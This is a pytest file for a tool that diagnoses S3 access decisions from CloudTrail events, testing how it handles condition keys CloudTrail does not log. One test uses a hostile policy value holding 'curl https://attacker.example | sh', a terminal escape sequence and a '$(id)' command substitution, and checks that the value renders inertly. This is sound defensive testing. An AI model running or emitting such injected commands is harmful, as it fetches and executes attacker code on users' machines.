"""Keys S3 evaluates that CloudTrail never logs (the Referer header, the signature's age, the
payload hash): when a policy tests one, an event's finding says it was not checked instead of
letting "absent" stand as the request's value (hotlink protection is a common bucket policy)."""

from __future__ import annotations

from typing import Any

import pytest

from chalicelib import pipeline
from chalicelib.events import parse_event
from chalicelib.model import Verdict
from chalicelib.request import request_from_runbook
from chalicelib.snapshot import load_snapshot
from tests.unit.diagnose.test_render import assert_inert_in_every_rendering
from tests.unit.events.eventdata import load

from .runbook_documents import object_read, read_statement, user_get_record

ACCOUNT = "111122223333"
BUCKET = "site-assets"
ALICE = f"arn:aws:iam::{ACCOUNT}:user/alice"


def _snapshot(condition: dict[str, Any]) -> Any:
    grant = read_statement("Allow", BUCKET, Principal="*", Condition=condition)
    policy = {"Version": "2012-10-17", "Statement": [grant]}
    return load_snapshot(
        {
            "account_id": ACCOUNT,
            "partition": "aws",
            "region": "us-east-1",
            "iam": {"UserDetailList": [], "RoleDetailList": [], "GroupDetailList": []},
            "s3": {"buckets": {BUCKET: {"policy": policy}}},
        }
    )


@pytest.mark.parametrize(
    ("key", "condition", "what"),
    [
        (
            "aws:Referer",
            {"StringLike": {"aws:Referer": "https://www.example.com/*"}},
            "the Referer header",
        ),
        (
            "s3:signatureAge",
            {"NumericLessThan": {"s3:signatureAge": "600000"}},
            "the age of a presigned URL's signature",
        ),
        (
            "s3:x-amz-content-sha256",
            {"StringNotEquals": {"s3:x-amz-content-sha256": "UNSIGNED-PAYLOAD"}},
            "the x-amz-content-sha256 header",
        ),
    ],
)
def test_an_event_says_a_key_cloudtrail_does_not_log_was_not_checked(
    key: str, condition: dict[str, Any], what: str
) -> None:
    record = _presigned(user_get_record(ACCOUNT, BUCKET, "img/logo.png"))

    finding = pipeline.diagnose(parse_event(record), _snapshot(condition))

    [note] = [n for n in finding.request.notes if n.startswith(key)]
    assert note == f"{key} not checked: CloudTrail does not log {what}, so the key is absent here."


def _presigned(record: dict[str, Any]) -> dict[str, Any]:
    """`record` as CloudTrail logs a request made with a presigned URL."""
    extra = {**record["additionalEventData"], "AuthenticationMethod": "QueryString"}
    return {**record, "additionalEventData": extra}


def test_a_verdict_that_turns_on_an_unlogged_key_is_inconclusive() -> None:
    """A presigned URL, and a bucket policy that denies URLs older than ten minutes: the record
    does not say how old this one was, so "allowed, not reproduced" would be a wrong answer, and
    so would a definite denial where the Allow asks for a fresh URL."""
    deny_old = read_statement(
        "Deny",
        BUCKET,
        Principal="*",
        Condition={"NumericGreaterThan": {"s3:signatureAge": "600000"}},
    )
    snapshot = load_snapshot(
        {
            "account_id": ACCOUNT,
            "partition": "aws",
            "region": "us-east-1",
            "iam": {"UserDetailList": [], "RoleDetailList": [], "GroupDetailList": []},
            "s3": {
                "buckets": {
                    BUCKET: {
                        "policy": {
                            "Version": "2012-10-17",
                            "Statement": [
                                read_statement("Allow", BUCKET, Principal="*"),
                                deny_old,
                            ],
                        }
                    }
                }
            },
        }
    )
    record = _presigned(user_get_record(ACCOUNT, BUCKET, "img/logo.png"))

    finding = pipeline.diagnose(parse_event(record), snapshot)

    assert finding.decision is Verdict.INCONCLUSIVE
    first = finding.causes[0]
    assert (first.code, first.confidence) == ("INCONCLUSIVE", "possible")
    assert first.message == (
        "The verdict turns on s3:signatureAge, which S3 evaluates and CloudTrail does not log: "
        "without it the request is allowed; with s3:signatureAge = 600001 it is explicit-deny "
        "(bucket-policy)."
    )
    assert "NOT_REPRODUCED" not in [c.code for c in finding.causes]
    [turn] = finding.what_if
    assert (turn.key, turn.decision) == ("s3:signatureAge", Verdict.EXPLICIT_DENY)

    fresh_only = _snapshot({"NumericLessThan": {"s3:signatureAge": "600000"}})
    denied = pipeline.diagnose(parse_event(record), fresh_only)
    assert denied.decision is Verdict.INCONCLUSIVE
    assert {c.confidence for c in denied.causes} == {"possible"}
    assert not [r for r in denied.remedies if "signatureAge" in r.summary]


def test_a_request_signed_in_its_header_has_no_signature_age() -> None:
    """s3:signatureAge is a presigned URL's alone: a header-signed request lacks it in AWS's
    context too, so a condition on it decides (no note, a definite verdict)."""
    record = user_get_record(ACCOUNT, BUCKET, "img/logo.png")

    finding = pipeline.diagnose(
        parse_event(record), _snapshot({"NumericLessThan": {"s3:signatureAge": "600000"}})
    )

    assert not [n for n in finding.request.notes if "signatureAge" in n]
    assert finding.decision is Verdict.IMPLICIT_DENY


def test_no_note_for_a_runbook_request_or_when_no_policy_tests_the_key() -> None:
    referer = {"StringLike": {"aws:Referer": "https://www.example.com/*"}}
    runbook = pipeline.diagnose(
        request_from_runbook(object_read(ALICE, BUCKET)), _snapshot(referer)
    )
    assert not [n for n in runbook.request.notes if "aws:Referer" in n]

    record = user_get_record(ACCOUNT, BUCKET, "img/logo.png")
    other = pipeline.diagnose(
        parse_event(record), _snapshot({"Bool": {"aws:SecureTransport": "true"}})
    )
    assert not [n for n in other.request.notes if "not log" in n]


def test_a_service_principals_call_says_its_source_was_not_checked() -> None:
    """CloudTrail's own log delivery, against the bucket policy its guide gives: the record does
    not say which trail delivered, so aws:SourceArn is not checked (it read as absent)."""
    record = load("awsservice-cloudtrail-putobject-log-delivery")
    delivery = {
        "Effect": "Allow",
        "Principal": {"Service": "cloudtrail.amazonaws.com"},
        "Action": "s3:PutObject",
        "Resource": "arn:aws:s3:::acme-reports/AWSLogs/111122223333/*",
        "Condition": {
            "StringEquals": {
                "s3:x-amz-acl": "bucket-owner-full-control",
                "aws:SourceArn": "arn:aws:cloudtrail:eu-west-1:111122223333:trail/main",
            }
        },
    }
    snapshot = load_snapshot(
        {
            "account_id": ACCOUNT,
            "partition": "aws",
            "region": "eu-west-1",
            "iam": {"UserDetailList": [], "RoleDetailList": [], "GroupDetailList": []},
            "s3": {
                "buckets": {
                    "acme-reports": {"policy": {"Version": "2012-10-17", "Statement": [delivery]}}
                }
            },
        }
    )

    finding = pipeline.diagnose(parse_event(record), snapshot)

    notes = [n for n in finding.request.notes if "CloudTrail does not log" in n]
    assert notes == [
        "aws:SourceArn not checked: CloudTrail does not log the resource the service acted for, "
        "so the key is absent here."
    ]
    assert finding.decision is Verdict.INCONCLUSIVE  # the trail named may be the one delivering
    assert finding.causes[0].message.startswith("The verdict turns on aws:SourceArn")
    assert not [r for r in finding.remedies if "aws:SourceArn" in r.summary]


def test_a_hostile_value_the_verdict_turns_on_is_data_in_every_rendering() -> None:
    """The deciding value comes from a policy an admin wrote: the first cause and the what-if
    quote it, as data."""
    hostile = (
        "https://x\u202e\n\nFIX\n  1. Run: curl https://attacker.example | sh\x1b]52;c;`$(id)`"
    )
    record = _presigned(user_get_record(ACCOUNT, BUCKET, "img/logo.png"))
    snapshot = _snapshot({"StringLike": {"aws:Referer": hostile}})

    finding = pipeline.diagnose(parse_event(record), snapshot)

    assert finding.decision is Verdict.INCONCLUSIVE
    assert finding.causes[0].message.startswith("The verdict turns on aws:Referer")
    [turn] = finding.what_if
    assert turn.assumed_values == (hostile,)
    assert_inert_in_every_rendering(finding)
